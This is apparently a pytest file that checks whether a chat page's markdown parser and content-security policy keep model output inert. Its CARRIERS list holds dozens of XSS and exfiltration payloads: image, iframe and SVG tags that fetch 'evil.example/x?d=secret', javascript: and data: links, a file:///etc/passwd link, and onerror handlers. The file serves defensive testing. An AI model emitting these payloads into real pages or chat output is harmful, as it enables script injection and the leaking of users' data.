"""The chat page: what it may load, and that no text of a model becomes anything but text."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from collections.abc import Iterator
from typing import Any

import pytest

from empu.server.app import PAGES, WEB
from tests.server.raw import request
from tests.server.serving import Running

TAGS = {
    "a", "blockquote", "br", "code", "del", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "strong",
    "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
ATTRIBUTES = {"href", "rel", "target", "title", "data-language", "start"}
PARSE = """
const source = require("fs").readFileSync(process.argv[1]);
import("data:text/javascript;base64," + source.toString("base64")).then(({ parse }) => {
  const texts = JSON.parse(require("fs").readFileSync(0, "utf8"));
  console.log(JSON.stringify(texts.map((text) => {
    const begun = performance.now();
    return { tree: parse(text), ms: performance.now() - begun };
  })));
});
"""
EVIL = "https://evil.example/x?d=secret"
CARRIERS = [
    f"![a]({EVIL})",
    f"![]({EVIL})",
    f"[![a]({EVIL})](http://a.example)",
    f'![a]({EVIL} "t")',
    f"![a][1]\n\n[1]: {EVIL}",
    f'<img src="{EVIL}">',
    f"<img src={EVIL} onerror=alert(1)>",
    f"<iframe src={EVIL}></iframe>",
    f"<script src={EVIL}></script>",
    f"<link rel=stylesheet href={EVIL}>",
    f"<style>@import '{EVIL}'</style>",
    f"<video poster={EVIL}></video>",
    f"<audio src={EVIL} autoplay>",
    f"<source srcset={EVIL}>",
    f"<object data={EVIL}>",
    f"<embed src={EVIL}>",
    f"<svg><image href='{EVIL}'/></svg>",
    f"<svg><use xlink:href='{EVIL}#a'/></svg>",
    f"<svg onload=fetch('{EVIL}')>",
    f"<body background={EVIL}>",
    f'<div style="background:url({EVIL})">a</div>',
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}>",
    f"<form action={EVIL}><input autofocus>",
    f"<math><mi xlink:href='{EVIL}'>a</mi></math>",
    f"<input type=image src={EVIL}>",
    f"<track src={EVIL}>",
    f"<table background={EVIL}>",
    f"<portal src={EVIL}>",
    f"<frameset><frame src={EVIL}>",
    f"<applet code={EVIL}>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:x)",
    "[a](file:///etc/passwd)",
    "[a](//evil.example)",
    "[a](/api/signout)",
    "[a](\x01javascript:alert(1))",
    "[a](ftp://evil.example)",
    "[a](blob:http://x)",
    '[a](http://a.example"onmouseover="alert(1))',
    "[a](http://a.example'onclick='b)",
    "[a](http://a.example<script>)",
    "[<img src=x onerror=alert(1)>](http://a.example)",
    "`<script>alert(1)</script>`",
    "```html\n<script>x</script>\n```",
    f"```{EVIL}\na\n```",
    '```" onload="alert(1)\na\n```',
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "1. <script>x</script>",
    "| <script> | a |\n|---|---|\n| <img src=x> | b |",
    "**<b onclick=x>**",
    "*<i onclick=x>*",
    "~~<s onclick=x>~~",
    "<!-- --!><script>x</script>",
    "<![CDATA[<script>]]>",
    "&lt;script&gt;",
    "\0<script>",
    "\u202e<script>",
    "<a href='javascript:x'>a</a>",
    "<template><script>x</script>",
]


def parsed(texts: list[str]) -> list[dict[str, Any]]:
    node = shutil.which("node")
    if node is None:
        pytest.skip("Node.js, which runs the page's own parser, is not installed")
    done = subprocess.run(
        [node, "-e", PARSE, str(WEB / "markdown.js")],
        input=json.dumps(texts),
        capture_output=True,
        text=True,
        check=True,
        timeout=60,
    )
    trees = json.loads(done.stdout)
    assert isinstance(trees, list)
    return trees


def nodes(tree: list[Any]) -> Iterator[dict[str, Any]]:
    for one in tree:
        if isinstance(one, dict):
            yield one
            yield from nodes(one["children"])


def words(tree: list[Any]) -> str:
    return "".join(one if isinstance(one, str) else words(one["children"]) for one in tree)


def test_no_text_becomes_anything_that_loads_or_runs() -> None:
    assert len(CARRIERS) >= 60
    for text, found in zip(CARRIERS, parsed(CARRIERS), strict=True):
        for node in nodes(found["tree"]):
            assert node["tag"] in TAGS, text
            assert set(node["attributes"]) <= ATTRIBUTES, text
            if node["tag"] == "a":
                assert re.fullmatch(r"(https?://|mailto:)[^\s<>\"'`\\]+", node["attributes"]["href"]), text
                assert "noopener" in node["attributes"]["rel"]
            assert re.fullmatch(r"[\w+#.-]*", node["attributes"].get("data-language", "")), text
    hidden = parsed([f'<img src="{EVIL}">', "<script>alert(1)</script>"])
    assert [words(one["tree"]) for one in hidden] == [f'<img src="{EVIL}">', "<script>alert(1)</script>"]


def test_markdown_is_understood() -> None:
    text = "# Title\n\nA **bold** and *slanted* `code`.\nNext\n\n"
    text += "- one\n- two\n\n3. three\n\n> said\n\n```py\nx = 1\n```\n\n"
    text += "|a|b|\n|--|--|\n|1|2|\n\n[a](https://a.example) 2 * 3 * 4 and snake_case_name"
    (found,) = parsed([text])
    tags = [node["tag"] for node in nodes(found["tree"])]
    assert tags[:5] == ["h3", "p", "strong", "em", "code"]
    for tag in ("br", "ul", "ol", "blockquote", "pre", "table", "a"):
        assert tag in tags
    assert tags.count("li") == 3
    assert tags.count("em") == 1
    assert words(found["tree"]).endswith("a 2 * 3 * 4 and snake_case_name")


def test_no_text_takes_the_parser_long() -> None:
    bits = [
        "`",
        "*",
        "**",
        "[",
        "](",
        "![",
        "~~",
        "|",
        "> ",
        "- ",
        "#",
        "\n",
        "```\n",
        "[a](",
        "**a",
        "`a",
        " ",
        "|-|\n",
    ]
    for text, found in zip(bits, parsed([bit * (20_000 // len(bit)) for bit in bits]), strict=True):
        assert found["ms"] < 5000, text


def test_the_page_comes_with_a_strict_policy_and_asks_nobody_else(running: Running) -> None:
    for path in PAGES:
        reply = request(running.port, "GET", path)
        assert reply.status == 200
        policy = reply.headers["content-security-policy"]
        assert "default-src 'none'" in policy
        assert "unsafe" not in policy
        assert "http" not in policy
        assert reply.headers["x-content-type-options"] == "nosniff"
        assert "frame-ancestors 'none'" in policy
    for file in WEB.iterdir():
        text = file.read_text(encoding="utf-8")
        assert not re.search(r"https?://[a-z0-9]", text), f"{file.name} names an address of another server"
        assert "innerHTML" not in text
        assert "eval(" not in text
    page = (WEB / "index.html").read_text(encoding="utf-8")
    assert not re.search(r"\son\w+=|<style|style=|<script>", page), "the policy forbids what stands inside the page"


def test_both_languages_say_everything() -> None:
    text = (WEB / "words.js").read_text(encoding="utf-8")
    english, indonesian = (set(re.findall(r"(\w+): \"", part)) for part in re.split(r"\n  id: \{", text))
    assert english == indonesian
    page = (WEB / "index.html").read_text(encoding="utf-8") + (WEB / "app.js").read_text(encoding="utf-8")
    used = re.findall(r"data-(?:say|label|hint)=\"(\w+)\"", page) + re.findall(r"[^.]say\(\"(\w+)\"\)", page)
    assert used
    assert set(used) <= english
